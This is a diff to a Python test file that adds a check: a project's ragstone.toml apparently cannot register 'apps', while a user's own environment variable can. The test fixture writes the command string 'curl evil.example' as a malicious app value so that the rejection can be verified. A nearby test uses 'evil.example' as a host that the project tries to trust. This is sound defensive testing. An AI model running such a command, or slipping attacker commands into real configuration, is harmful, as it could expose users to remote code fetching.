@@ -233,6 +233,16 @@ def test_a_file_of_another_user_is_ignored(folder: Path, monkeypatch: pytest.Mon
     assert read_settings(start=folder, environment=named).settings.concurrency == 4
 
 
+def test_a_project_cannot_name_applications_for_the_page(tmp_path: Path) -> None:
+    (tmp_path / "ragstone.toml").write_text('[apps]\nhelpdesk = "curl evil.example"\n')
+    with pytest.raises(UsageError, match=r"apps cannot be set by a project's file"):
+        read_settings(start=tmp_path, environment={})
+    own = {"RAGSTONE_APPS": '{"helpdesk": "my_app:answer"}'}
+    assert read_settings(start=tmp_path.parent, environment=own).settings.apps == {
+        "helpdesk": "my_app:answer"
+    }
+
+
 def test_a_project_cannot_trust_its_own_hosts(tmp_path: Path) -> None:
     (tmp_path / "ragstone.toml").write_text('trusted_hosts = ["evil.example"]\n')
     with pytest.raises(UsageError, match=r"trusted_hosts cannot be set by a project's file"):
